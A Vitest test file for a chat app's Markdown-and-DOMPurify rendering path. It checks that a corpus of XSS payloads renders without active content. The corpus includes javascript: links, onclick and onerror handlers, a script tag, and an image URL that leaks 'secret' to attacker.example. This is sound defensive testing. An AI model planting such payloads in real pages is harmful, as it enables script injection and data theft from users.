// @vitest-environment jsdom
// What reaches the page from a reply: the XSS corpus of security.md T27/T28 through the whole path
// (Markdown, then DOMPurify). jsdom, because under happy-dom DOMPurify misparses (it keeps
// `<img onerror>`); Chromium runs the same corpus as a streamed reply in e2e/chat-security.spec.ts.
import { describe, expect, it, vi } from 'vitest';
import { buildMarkdownReply, XSS_PAYLOADS } from '../../../e2e/mock-provider/reply-content';
import { blockSource, splitFinishedMarkdown } from './markdown-blocks';
import { renderMarkdownBlocksToNodes, renderMarkdownBlockToNodes, renderMarkdownToHtml, type RenderedNodeBlock } from './render-markdown';
import { sanitizeHtmlPiecesToFragments } from './sanitize-html';

/** The corpus of security.md T27/T28, shared with the mock provider's `xss` scenario, plus a few more. */
const XSS_CORPUS = [
  ...XSS_PAYLOADS,
  '[JaVaScRiPt](  JAVASCRIPT:alert(1))',
  '<a href="https://ok.example" onclick="window.__pwned=1">ok</a>',
  '[x](vbscript:msgbox(1))',
];

function parse(html: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = html;
  return container;
}

describe('renderMarkdownToHtml: the XSS corpus', () => {
  it.each(XSS_CORPUS)('renders %s without any active content', (payload) => {
    const container = parse(renderMarkdownToHtml(payload));
    expect(container.querySelectorAll('script, iframe, svg, img, style, object, embed, details, form, input, mglyph, maction')).toHaveLength(0);
    for (const element of container.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name.startsWith('on')).toBe(false);
        expect(attribute.value).not.toMatch(/^\s*(javascript|data|vbscript):/i);
      }
    }
    for (const link of container.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/i);
  });

  it('shows raw HTML as text rather than dropping it silently', () => {
    expect(parse(renderMarkdownToHtml('<script>window.__pwned=1</script>')).textContent).toContain('<script>window.__pwned=1</script>');
  });

  it('never loads an image: it becomes a plain "[image removed]" note', () => {
    const html = renderMarkdownToHtml('![a chart](https://attacker.example/p?d=secret)');
    expect(html).not.toContain('attacker.example');
    expect(parse(html).textContent).toContain('[image removed: a chart]');
  });

  it('keeps safe links, opening away from the app without opener or referrer', () => {
    const link = parse(renderMarkdownToHtml('[docs](https://example.com/a?b=1) and <mailto:me@example.com>')).querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com/a?b=1');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('drops a javascript: link but keeps its words', () => {
    const container = parse(renderMarkdownToHtml('[click me](javascript:window.__pwned=1)'));
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toContain('click me');
  });
});

describe('math', () => {
  it('keeps MathML free of script and event handlers', () => {
    const container = parse(renderMarkdownToHtml('$\\href{javascript:alert(1)}{x}$ and $\\color{red}{x}$<img src=x onerror=alert(1)>'));
    expect(container.querySelectorAll('math').length).toBe(2);
    expect(container.querySelectorAll('[href], [style], img')).toHaveLength(0);
  });
});

/** A fragment's markup. */
function markupOf(fragment: DocumentFragment): string {
  const holder = document.createElement('div');
  holder.append(fragment);
  return holder.innerHTML;
}

/** Parses without sanitising, counting the passes. */
function countingParser() {
  return vi.fn((html: string): DocumentFragment => {
    const template = document.createElement('template');
    template.innerHTML = html;
    return template.content;
  });
}

describe('sanitising many pieces in one pass', () => {
  const pieces = ['<p>one <em>two</em></p>\n', '<table><tbody><tr><td>cell</td></tr></tbody></table>', 'text only', '<ul><li>item</li></ul>'];

  it('parses once and hands back one fragment per piece, the same as piece by piece', () => {
    const parse = countingParser();
    const batched = sanitizeHtmlPiecesToFragments(pieces, parse).map(markupOf);
    expect(parse).toHaveBeenCalledTimes(1);
    expect(batched).toEqual(pieces.map((piece) => markupOf(countingParser()(piece))));
  });

  it('sanitises each piece alone when a piece does not stay inside its wrapper', () => {
    const parse = countingParser();
    const broken = [...pieces, '</div><p>out</p><div class="sanitiser-piece">'];
    const batched = sanitizeHtmlPiecesToFragments(broken, parse).map(markupOf);
    expect(parse).toHaveBeenCalledTimes(1 + broken.length);
    expect(batched).toEqual(broken.map((piece) => markupOf(countingParser()(piece))));
  });
});

describe('rendering many finished blocks together', () => {
  it('gives every block the same nodes as rendering it alone', () => {
    const reply = buildMarkdownReply(1500);
    const raws = [...splitFinishedMarkdown(reply).map((block) => blockSource(reply, block)), ...XSS_PAYLOADS];
    const markup = (blocks: RenderedNodeBlock[]): string[] => blocks.map((block) => (block.kind === 'code' ? `code ${block.language}: ${block.code}` : markupOf(block.fragment)));
    expect(renderMarkdownBlocksToNodes(raws).map(markup)).toEqual(raws.map((raw) => markup(renderMarkdownBlockToNodes(raw))));
  });
});
